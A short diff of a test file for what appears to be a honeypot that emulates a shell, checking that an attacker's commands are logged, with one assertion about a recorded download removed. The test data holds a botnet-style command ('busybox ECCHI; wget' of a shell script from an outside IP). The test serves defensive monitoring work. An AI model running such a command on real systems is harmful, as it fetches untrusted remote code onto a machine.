@@ -31,9 +31,6 @@ test('a log-in is refused, another let in, and the shell answers', async () => {
     expect((await served.until(({ event_type }) => event_type === 'decoy.command')).fields).toMatchObject({
       command: '/bin/busybox ECCHI; wget http://198.51.100.9/m.sh',
     });
-    expect((await served.until(({ event_type }) => event_type === 'decoy.download')).fields).toMatchObject({
-      url: 'http://198.51.100.9/m.sh',
-    });
   } finally {
     await served.stop();
   }
